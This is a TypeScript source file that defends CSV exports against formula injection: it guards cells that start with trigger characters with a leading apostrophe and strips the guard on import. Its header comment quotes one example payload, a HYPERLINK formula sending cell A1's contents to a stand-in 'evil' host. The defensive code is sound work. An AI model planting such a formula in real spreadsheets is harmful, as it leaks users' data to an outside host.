// CSV formula injection (OWASP "CSV Injection"): a spreadsheet opening a CSV runs a text cell that
// starts with `=`, `+`, `-`, `@`, tab or CR as a formula (an organisation named
// `=HYPERLINK("http://evil/?"&A1,"Click")`). The export writes such a text cell with a leading `'`,
// which makes it plain text; the import strips that one `'` again, so export → import is equal.
//
// To keep the round trip exact for text that itself starts with apostrophes before a trigger
// (`'=x`), the guard is added to any text matching /^'*[=+\-@\t\r]/ and the import removes one
// leading `'` from any text matching /^'+[=+\-@\t\r]/: guard and strip are inverse of each other.
// Numbers are written as numbers and never guarded (`-5` stays a number).

const TRIGGER = /^'*[=+\-@\t\r]/;
const GUARDED = /^'+[=+\-@\t\r]/;

/** The text as it is written in a CSV cell: with a leading `'` when a spreadsheet would run it. */
export function guardFormula(text: string): string {
  return TRIGGER.test(text) ? `'${text}` : text;
}

/**
 * A cell value as read from an imported file, with the export's formula guard removed (a leading
 * `'` before `=`, `+`, `-`, `@`, tab or CR). Anything else, and any value that is not text, is
 * returned unchanged.
 */
export function unguardFormula<T>(value: T): T {
  return typeof value === 'string' && value.charCodeAt(0) === 39 && GUARDED.test(value)
    ? (value.slice(1) as T)
    : value;
}
